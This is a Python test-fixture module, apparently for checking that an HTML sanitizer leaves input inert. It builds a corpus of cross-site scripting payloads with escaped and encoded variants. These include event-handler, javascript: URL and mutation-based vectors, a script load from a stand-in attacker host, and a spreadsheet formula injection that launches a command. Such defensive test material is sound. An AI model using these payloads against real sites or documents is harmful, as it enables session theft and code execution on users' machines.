"""A corpus of cross-site scripting payloads: classic vectors, event
handlers, javascript: and data: links, SVG and MathML, and encoded and
mutated variants of each. Every payload, if it ran, would call alert() or set
window.__pwned."""
from __future__ import annotations

import html
import urllib.parse

BASE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=10 y=20>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">klikkaa</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">klikkaa</a>",
    "<a href=\" javascript:alert(1)\">klikkaa</a>",
    "<a href=\"java&#x09;script:alert(1)\">klikkaa</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "<div style=\"background:url(javascript:alert(1))\">tyyli</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "javascript:alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<strong onclick=alert(1)>lihava</strong>",
    "<em style=\"x:expression(alert(1))\">kursiivi</em>",
    "<ul><li onmouseover=alert(1)>kohta</li></ul>",
    "<h3 onclick=alert(1)>otsikko</h3>",
    "=cmd|'/c calc'!A1",
]


def variants(payload: str) -> list[str]:
    """The payload as written, HTML-escaped once, URL-encoded, and wrapped in
    allowed markup – each one must stay inert."""
    return [
        payload,
        html.escape(payload),
        urllib.parse.quote(payload),
        f"<p>Teksti {payload} jatkuu</p>",
    ]


PAYLOADS = [variant for payload in BASE for variant in variants(payload)]
assert len(PAYLOADS) >= 100
